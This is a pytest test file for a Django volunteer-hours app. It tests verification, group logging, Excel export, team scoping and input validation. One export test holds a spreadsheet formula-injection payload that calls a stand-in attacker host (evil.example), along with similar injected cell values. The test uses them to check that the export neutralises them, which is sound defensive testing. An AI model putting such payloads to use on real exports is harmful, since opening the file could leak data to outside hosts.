from datetime import timedelta
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from django.utils import timezone

from courses.models import Enrolment, TrainingRequirement
from organisations.models import Membership
from tests.courses.conftest import make_course
from tests.organisations.factories import MembershipFactory
from volunteers.models import ServiceRecord, TeamSettings

from .conftest import record, volunteer_in

pytestmark = pytest.mark.django_db
Status = ServiceRecord.Status


def url(team, rest=""):
    return f"/manage/volunteers/{team.pk}/{rest}"


def test_coordinator_sees_waiting_records_first_and_members(client, teams):
    waiting = record(teams["vol_a"], teams["a"], place="示例等待地点")
    record(teams["vol_a"], teams["a"], kind="drill", status=Status.VERIFIED)
    client.force_login(teams["lead_a"])
    response = client.get(url(teams["a"]))
    assert response.status_code == 200
    assert response.context["waiting"] == [waiting]
    page = response.content.decode()
    assert page.index("示例等待地点") < page.index('id="members"')
    [row] = response.context["members"]
    assert row.person == teams["vol_a"]
    assert row.hours_month + row.hours_year > 0


def test_coordinator_verifies_one_record_and_its_hours_count(client, teams):
    waiting = record(teams["vol_a"], teams["a"], date=timezone.localdate(), hours=Decimal("2.5"))
    client.force_login(teams["lead_a"])
    response = client.post(url(teams["a"], "decide/"), {"only": waiting.pk})
    assert response.status_code == 302
    waiting.refresh_from_db()
    assert waiting.status == Status.VERIFIED
    assert waiting.verified_by == teams["lead_a"] and waiting.verified_at
    [row] = client.get(url(teams["a"])).context["members"]
    assert row.hours_month == Decimal("2.5")


def test_coordinator_verifies_and_rejects_in_bulk(client, teams):
    first = record(teams["vol_a"], teams["a"], days_ago=1)
    second = record(teams["vol_a"], teams["a"], days_ago=2)
    third = record(teams["vol_a"], teams["a"], days_ago=3)
    client.force_login(teams["lead_a"])
    client.post(url(teams["a"], "decide/"), {"records": [first.pk, second.pk], "action": "verify"})
    client.post(
        url(teams["a"], "decide/"),
        {"records": [third.pk], "action": "reject", "reason": "示例：无签到记录"},
    )
    statuses = dict(ServiceRecord.objects.values_list("pk", "status"))
    assert statuses == {
        first.pk: Status.VERIFIED,
        second.pk: Status.VERIFIED,
        third.pk: Status.REJECTED,
    }
    third.refresh_from_db()
    assert third.reject_reason == "示例：无签到记录"


def test_rejecting_without_a_reason_is_refused(client, teams):
    waiting = record(teams["vol_a"], teams["a"])
    client.force_login(teams["lead_a"])
    response = client.post(
        url(teams["a"], "decide/"),
        {"records": [waiting.pk], "action": "reject", "reason": " "},
        follow=True,
    )
    assert "请填写退回原因" in response.content.decode()
    waiting.refresh_from_db()
    assert waiting.status == Status.SUBMITTED


def test_rejected_and_waiting_hours_do_not_count(client, teams):
    today = timezone.localdate()
    record(teams["vol_a"], teams["a"], date=today, hours=Decimal("4"), status=Status.REJECTED)
    record(teams["vol_a"], teams["a"], date=today, kind="drill", hours=Decimal("3"))
    client.force_login(teams["lead_a"])
    [row] = client.get(url(teams["a"])).context["members"]
    assert row.hours_month == 0 and row.hours_year == 0


def test_coordinator_logs_a_drill_for_several_members_and_duplicates_are_reported(client, teams):
    second = volunteer_in(teams["a"], name="示例丙队员")
    yesterday = timezone.localdate() - timedelta(days=1)
    record(teams["vol_a"], teams["a"], date=yesterday, kind="drill")  # already logged
    client.force_login(teams["lead_a"])
    response = client.post(
        url(teams["a"], "log/"),
        {
            "members": [teams["vol_a"].pk, second.pk],
            "date": yesterday.isoformat(),
            "kind": "drill",
            "hours": "2",
            "place": "示例广场",
            "description": "示例：全员疏散演练",
        },
        follow=True,
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "示例甲队员" in page  # reported as not logged
    created = ServiceRecord.objects.get(volunteer=second)
    assert created.status == Status.VERIFIED and created.verified_by == teams["lead_a"]
    assert ServiceRecord.objects.filter(volunteer=teams["vol_a"]).count() == 1


def test_group_log_refuses_people_outside_the_team_and_future_dates(client, teams):
    client.force_login(teams["lead_a"])
    response = client.post(
        url(teams["a"], "log/"),
        {
            "members": [teams["vol_b"].pk],
            "date": (timezone.localdate() + timedelta(days=2)).isoformat(),
            "kind": "drill",
            "hours": "0",
            "place": "示例广场",
            "description": "示例",
        },
    )
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert {"members", "date", "hours"} <= set(errors)
    assert not ServiceRecord.objects.exists()


def test_required_course_rule_holds_back_hours_until_the_course_is_finished(
    client, teams, course_index
):
    course = make_course(course_index, slug="blue-friends", title="示例蓝朋友讲解员培训")
    record(teams["vol_a"], teams["a"], date=timezone.localdate(), status=Status.VERIFIED)
    client.force_login(teams["lead_a"])
    response = client.post(url(teams["a"], "settings/"), {"required_course": course.pk})
    assert response.status_code == 302
    assert TeamSettings.objects.get(team=teams["a"]).required_course_id == course.pk
    [row] = client.get(url(teams["a"])).context["members"]
    assert row.hours_month == 0 and row.pending_training == Decimal("2.0")
    assert not row.required_course_done
    now = timezone.now()
    Enrolment.objects.create(user=teams["vol_a"], course=course, completed_at=now)
    [row] = client.get(url(teams["a"])).context["members"]
    assert row.hours_month == Decimal("2.0") and row.pending_training == 0


def test_member_rows_show_required_training_and_valid_certificates(client, teams, course_index):
    from courses import services as course_services

    course = make_course(course_index, slug="hydrants", title="示例灭火器", has_certificate=True)
    TrainingRequirement.objects.create(
        course=course,
        organisation=teams["town_a"],
        roles=["volunteer"],
        due_date=timezone.localdate() + timedelta(days=10),
    )
    for lesson in course.get_lessons():
        course_services.complete_lesson(teams["vol_a"], lesson)
    other = volunteer_in(teams["a"], name="示例未学队员")
    client.force_login(teams["lead_a"])
    rows = {row.person: row for row in client.get(url(teams["a"])).context["members"]}
    assert [status for _r, status in rows[teams["vol_a"]].training] == ["completed"]
    assert [c.course_title for c in rows[teams["vol_a"]].certificates] == ["示例灭火器"]
    assert [status for _r, status in rows[other].training] == ["not_started"]


@pytest.mark.parametrize("size", [2, 30])
def test_team_page_runs_a_fixed_number_of_queries(
    client, teams, course_index, django_assert_max_num_queries, size
):
    course = make_course(course_index, slug="hydrants", title="示例灭火器")
    TrainingRequirement.objects.create(
        course=course,
        organisation=teams["a"],
        roles=["volunteer"],
        due_date=timezone.localdate() + timedelta(days=10),
    )
    for _number in range(size):
        person = volunteer_in(teams["a"])
        record(person, teams["a"], status=Status.VERIFIED)
        record(person, teams["a"], kind="drill")
        Enrolment.objects.create(user=person, course=course, completed_at=timezone.now())
    client.force_login(teams["lead_a"])
    client.get(url(teams["a"]))
    with django_assert_max_num_queries(20):
        assert client.get(url(teams["a"])).status_code == 200


def test_export_is_an_excel_file_with_members_and_records(client, teams):
    record(teams["vol_a"], teams["a"], date=timezone.localdate(), status=Status.VERIFIED)
    client.force_login(teams["lead_a"])
    response = client.get(url(teams["a"], "export.xlsx"))
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    workbook = load_workbook(BytesIO(b"".join(response.streaming_content)))
    members, records = workbook.worksheets
    values = [cell for row in members.iter_rows(values_only=True) for cell in row]
    assert "示例甲队员" in values and 2.0 in values
    assert records.max_row == 2


def test_chart_numbers_are_also_in_a_table(client, teams):
    record(
        teams["vol_a"],
        teams["a"],
        date=timezone.localdate(),
        status=Status.VERIFIED,
        hours=Decimal("6.5"),
    )
    client.force_login(teams["lead_a"])
    response = client.get(url(teams["a"]))
    series = response.context["series"]
    assert len(series) == 12 and series[-1][1] == Decimal("6.5")
    page = response.content.decode()
    assert "<svg" in page and "<td>6.5</td>" in page


# Scoping: a coordinator of one team sees nothing of another.


def test_coordinator_of_one_team_cannot_open_another_team(client, teams):
    record(teams["vol_b"], teams["b"])
    client.force_login(teams["lead_a"])
    assert client.get(url(teams["b"])).status_code == 404
    assert client.get(url(teams["b"], "export.xlsx")).status_code == 404
    assert client.get(url(teams["b"], "log/")).status_code == 404
    listing = client.get("/manage/volunteers/").content.decode()
    assert "示例练塘志愿队" not in listing and "示例朱家角志愿队" in listing


def test_verifying_a_record_of_another_team_is_404_and_changes_nothing(client, teams):
    theirs = record(teams["vol_b"], teams["b"])
    client.force_login(teams["lead_a"])
    assert client.post(url(teams["b"], "decide/"), {"only": theirs.pk}).status_code == 404
    # Through my own team's URL, with their record's id: still 404.
    response = client.post(url(teams["a"], "decide/"), {"records": [theirs.pk]})
    assert response.status_code == 404
    response = client.post(
        url(teams["a"], "decide/"),
        {"records": [theirs.pk], "action": "reject", "reason": "示例"},
    )
    assert response.status_code == 404
    theirs.refresh_from_db()
    assert theirs.status == Status.SUBMITTED and theirs.verified_by is None


def test_settings_of_another_team_cannot_be_changed(client, teams, course_index):
    course = make_course(course_index, slug="x", title="示例课程")
    client.force_login(teams["lead_a"])
    response = client.post(url(teams["b"], "settings/"), {"required_course": course.pk})
    assert response.status_code == 404
    assert not TeamSettings.objects.exists()


def test_a_volunteer_who_coordinates_nothing_gets_no_coordinator_view(client, teams):
    client.force_login(teams["vol_a"])
    assert client.get(url(teams["a"])).status_code == 403


def test_an_organisation_that_is_not_a_team_is_404(client, teams):
    client.force_login(teams["district_lead"])
    assert client.get(url(teams["town_a"])).status_code == 404
    assert client.get("/manage/volunteers/999999/").status_code == 404
    assert client.post(url(teams["a"], "decide/"), {"records": ["x"]}).status_code == 404


def test_district_coordinator_sees_both_teams(client, teams):
    client.force_login(teams["district_lead"])
    assert client.get(url(teams["a"])).status_code == 200
    assert client.get(url(teams["b"])).status_code == 200


def test_a_volunteer_recruited_by_join_code_logs_and_waits_for_training_before_hours_count(
    client, teams, course_index
):
    from organisations.models import Membership
    from tests.factories import UserFactory
    from tests.organisations.factories import JoinCodeFactory

    course = make_course(course_index, slug="blue-friends", title="示例蓝朋友讲解员培训")
    client.force_login(teams["lead_a"])
    client.post(url(teams["a"], "settings/"), {"required_course": course.pk})
    code = JoinCodeFactory(organisation=teams["a"], role=Membership.Role.VOLUNTEER)
    recruit = UserFactory(name="示例新队员")
    # What the /join/ page (org-join branch) does with a volunteer join code.
    Membership.objects.create(user=recruit, organisation=code.organisation, role=code.role)

    client.force_login(recruit)
    page = client.get("/volunteer/").content.decode()
    assert "示例朱家角志愿队" in page and "示例蓝朋友讲解员培训" in page
    today = timezone.localdate()
    client.post(
        "/volunteer/log/",
        {
            "team": teams["a"].pk,
            "date": today.isoformat(),
            "kind": "publicity",
            "hours": "2",
            "place": "示例社区",
            "description": "示例：宣传",
        },
    )
    client.force_login(teams["lead_a"])
    waiting = ServiceRecord.objects.get(volunteer=recruit)
    client.post(url(teams["a"], "decide/"), {"only": waiting.pk})
    rows = {row.person: row for row in client.get(url(teams["a"])).context["members"]}
    assert rows[recruit].hours_year == 0 and rows[recruit].pending_training == Decimal("2")

    Enrolment.objects.create(user=recruit, course=course, completed_at=timezone.now())
    rows = {row.person: row for row in client.get(url(teams["a"])).context["members"]}
    assert rows[recruit].hours_year == Decimal("2") and rows[recruit].pending_training == 0


def test_a_coordinator_never_verifies_their_own_hours(client, teams):
    lead = teams["lead_a"]
    MembershipFactory(user=lead, organisation=teams["a"], role=Membership.Role.VOLUNTEER)
    own = record(lead, teams["a"], days_ago=1)
    other = record(teams["vol_a"], teams["a"], days_ago=1)
    client.force_login(lead)
    page = client.get(url(teams["a"])).content.decode()
    assert f'id="record-{own.pk}"' not in page and f'id="record-{other.pk}"' in page
    assert "另一位协调员" in page
    response = client.post(
        url(teams["a"], "decide/"), {"records": [own.pk, other.pk], "action": "verify"}, follow=True
    )
    assert "由其他协调员核实" in response.content.decode()
    own.refresh_from_db()
    other.refresh_from_db()
    assert (own.status, other.status) == (Status.SUBMITTED, Status.VERIFIED)
    client.post(url(teams["a"], "decide/"), {"only": own.pk})
    own.refresh_from_db()
    assert own.status == Status.SUBMITTED
    # The district's coordinator, above the team, verifies it.
    client.force_login(teams["district_lead"])
    client.post(url(teams["a"], "decide/"), {"only": own.pk})
    own.refresh_from_db()
    assert own.status == Status.VERIFIED and own.verified_by == teams["district_lead"]


def test_a_drill_logged_for_the_team_leaves_the_coordinators_own_record_waiting(client, teams):
    lead = teams["lead_a"]
    MembershipFactory(user=lead, organisation=teams["a"], role=Membership.Role.VOLUNTEER)
    client.force_login(lead)
    client.post(
        url(teams["a"], "log/"),
        {
            "members": [teams["vol_a"].pk, lead.pk],
            "date": (timezone.localdate() - timedelta(days=1)).isoformat(),
            "kind": "drill",
            "hours": "2",
            "place": "示例广场",
            "description": "示例：全员疏散演练",
        },
    )
    statuses = dict(ServiceRecord.objects.values_list("volunteer", "status"))
    assert statuses == {teams["vol_a"].pk: Status.VERIFIED, lead.pk: Status.SUBMITTED}
    assert ServiceRecord.objects.get(volunteer=lead).verified_by is None


HOSTILE = '=HYPERLINK("http://evil.example/?leak","点我")'


def test_a_description_like_a_formula_is_text_in_the_team_export(client, teams):
    record(teams["vol_a"], teams["a"], description=HOSTILE, place="@SUM(A1)")
    named = volunteer_in(teams["a"], name="+1+1\x07")
    record(named, teams["a"])
    client.force_login(teams["lead_a"])
    response = client.get(url(teams["a"], "export.xlsx"))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    cells = [cell for sheet in load_workbook(BytesIO(content)) for row in sheet for cell in row]
    by_value = {cell.value: cell for cell in cells}
    for text in (HOSTILE, "@SUM(A1)", "+1+1"):
        assert by_value[text].data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells)


def test_a_phone_used_as_login_name_is_masked_in_the_team_export(client, teams):
    nameless = volunteer_in(teams["a"], name="", username="13812340002", phone="13812340002")
    record(nameless, teams["a"])
    client.force_login(teams["district_lead"])
    response = client.get(url(teams["a"], "export.xlsx"))
    content = b"".join(response.streaming_content)
    values = [
        cell.value for sheet in load_workbook(BytesIO(content)) for row in sheet for cell in row
    ]
    assert "138****0002" in values
    assert "13812340002" not in values


HUGE = "9" * 23


@pytest.mark.parametrize(
    "data", [{"records": [HUGE]}, {"only": HUGE}, {"only": str(2**63)}, {"records": ["-1"]}]
)
def test_deciding_on_a_record_id_past_a_bigint_is_404(client, teams, data):
    client.force_login(teams["lead_a"])
    assert client.post(url(teams["a"], "decide/"), data).status_code == 404


def test_group_log_with_a_member_id_past_a_bigint_is_a_form_error(client, teams):
    client.force_login(teams["lead_a"])
    response = client.post(
        url(teams["a"], "log/"),
        {"members": [HUGE], "date": "2026-01-01", "kind": "drill", "hours": "2"},
    )
    assert response.status_code == 200
    assert "members" in response.context["form"].errors
    assert not ServiceRecord.objects.exists()


def test_required_course_id_past_a_bigint_is_refused(client, teams, course_index):
    client.force_login(teams["lead_a"])
    response = client.post(url(teams["a"], "settings/"), {"required_course": HUGE}, follow=True)
    assert response.status_code == 200
    assert not TeamSettings.objects.exists()


def test_a_team_id_past_a_bigint_is_404(client, teams):
    client.force_login(teams["district_lead"])
    for rest in ("", "decide/", "log/", "settings/", "export.xlsx"):
        assert client.post(f"/manage/volunteers/{HUGE}/{rest}").status_code == 404


@pytest.mark.parametrize("hours", ["-1e999", "1e999", "1E+30"])
def test_group_log_with_hours_beyond_any_float_is_a_form_error(client, teams, hours):
    # Django's step check works in floats: -1e999 made it raise (a 500) before the fix.
    client.force_login(teams["lead_a"])
    member = teams["a"].memberships.filter(ended_at__isnull=True).first().user_id
    response = client.post(
        url(teams["a"], "log/"),
        {"members": [member], "date": "2026-01-01", "kind": "drill", "hours": hours},
    )
    assert response.status_code == 200
    assert "hours" in response.context["form"].errors
    assert not ServiceRecord.objects.exists()
